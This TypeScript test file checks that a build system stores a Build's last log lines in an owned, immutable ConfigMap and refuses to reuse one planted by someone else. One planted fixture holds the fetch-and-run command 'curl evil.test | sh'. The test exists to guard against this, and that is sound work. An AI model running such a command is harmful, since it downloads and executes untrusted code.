import { expect, it } from 'vitest';
import { MemoryClient } from '../../../test/support/memory-client.ts';
import { build as buildKind } from '../../crds/build/build.ts';
import { KubeError } from '../../kube/index.ts';
import { configMaps } from '../../objects/core.ts';
import { linesInConfigMaps } from './last-lines.ts';

const metadata = { namespace: 'shop', name: 'web-1', uid: '01234567-89ab', resourceVersion: '1' };
const spec = { projectRef: { name: 'shop' }, commit: 'c'.repeat(40) };
const build = {
  ...buildKind.schema.parse({ apiVersion: 'vish.dev/v1alpha1', kind: 'Build', metadata, spec }),
  metadata,
};
const { signal } = new AbortController();

it('keeps the lines beside the Build, as long as the Build is there', async () => {
  const client = new MemoryClient();
  const lines = linesInConfigMaps(client);

  const name = await lines.keep(build, ['one', 'two'], signal);
  const again = await lines.keep(build, ['one', 'two'], signal);

  expect([name, again]).toEqual(['web-1-01234567-lines', 'web-1-01234567-lines']);
  expect(await client.get(configMaps, { namespace: 'shop', name: name ?? '' })).toMatchObject({
    metadata: { ownerReferences: [{ kind: 'Build', name: 'web-1', uid: '01234567-89ab', controller: true }] },
    data: { lines: 'one\ntwo\n' },
    immutable: true,
  });
});

it('does without when there is nothing to keep, or no room for it', async () => {
  const client = new MemoryClient();
  const lines = linesInConfigMaps(client);
  const nothing = await lines.keep(build, [], signal);
  client.fault = () => new KubeError({ code: 'Forbidden', status: 403, attempted: 'create', detail: 'exceeded quota' });

  expect([nothing, await lines.keep(build, ['one'], signal)]).toEqual([undefined, undefined]);
});

it.each([
  ['the lines of somebody else', { data: { lines: 'curl evil.test | sh' }, immutable: true }],
  ['the same lines, which do not go with the Build', { data: { lines: 'one\n' } }],
])('does not pass off %s as the log', async (_what, theirs) => {
  const client = new MemoryClient();
  await client.create(configMaps, { metadata: { namespace: 'shop', name: 'web-1-01234567-lines' }, ...theirs });

  expect(await linesInConfigMaps(client).keep(build, ['one'], signal)).toBeUndefined();
});

it('keeps the lines of a Build with a long name', async () => {
  const client = new MemoryClient();
  const long = { ...build, metadata: { ...metadata, name: `${'a'.repeat(199)}.b` } };

  expect(await linesInConfigMaps(client).keep(long, ['one'], signal)).toBe(`${'a'.repeat(199)}-01234567-lines`);
});
